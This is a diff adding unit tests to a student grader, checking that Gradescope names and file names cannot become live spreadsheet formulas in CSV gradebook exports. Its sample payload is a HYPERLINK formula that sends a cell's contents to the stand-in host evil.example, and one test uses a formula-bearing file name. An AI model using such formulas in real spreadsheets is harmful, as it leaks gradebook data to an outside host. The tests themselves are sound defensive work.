@@ -198,5 +198,40 @@ class F2_LinksAndSpecialFilesInAStudentsFolder(HostileTestCase):
         self.assertEqual(read_source(self.rows()["bob"]), b"bob's\n")
 
 
+class F3_NoCellRunsAsAFormula(HostileTestCase):
+    """A Gradescope name, or the name of a file in the student's folder (which starts a note),
+    never starts a cell a spreadsheet runs, in the gradebook or the exports."""
+
+    EVIL = '=HYPERLINK(CONCATENATE("http",CHAR(58),"//evil.example/?",A2),"open")'
+
+    def cells(self):
+        return [cell for path in (("gradebook.csv",), ("export", "canvas.csv"), ("export", "canvas-by-check.csv"),
+                                  ("export", "gradescope.csv")) for row in self.csv_rows(*path) for cell in row]
+
+    def test_a_gradescope_name(self):
+        self.gradescope({"submission_1": [(self.EVIL, "1", "@m@x.edu")], "submission_2": [("Ada", "2", "ada@x.edu")]},
+                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
+        self.grade()
+        cells = self.cells()
+        self.assertEqual([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])
+        self.assertTrue(any(c.startswith("'=HYPERLINK(") for c in cells), cells)  # shown as text
+        self.assertIn("100", cells)  # scores stay numbers
+
+    def test_a_file_name_that_starts_the_note(self):
+        folder = os.path.join(self.submissions, "mallory")
+        self.write(os.path.join(folder, WANTED), "all fine\n")
+        self.write(os.path.join(folder, "=1+2*CHAR(65)&HYPERLINK(A1).zip"), "not a zip")
+        self.submit("ada", "all fine")
+        self.grade()
+        self.assertEqual([c for c in self.cells() if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])
+
+    def test_the_rule(self):
+        from memlab_grader.exports import spreadsheet_cell
+        for text in ("=1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
+            self.assertEqual(spreadsheet_cell(text), "'" + text)
+        for text in ("Ada", "12.5", "0", "", "a=b"):
+            self.assertEqual(spreadsheet_cell(text), text)
+
+
 if __name__ == "__main__":
     unittest.main()
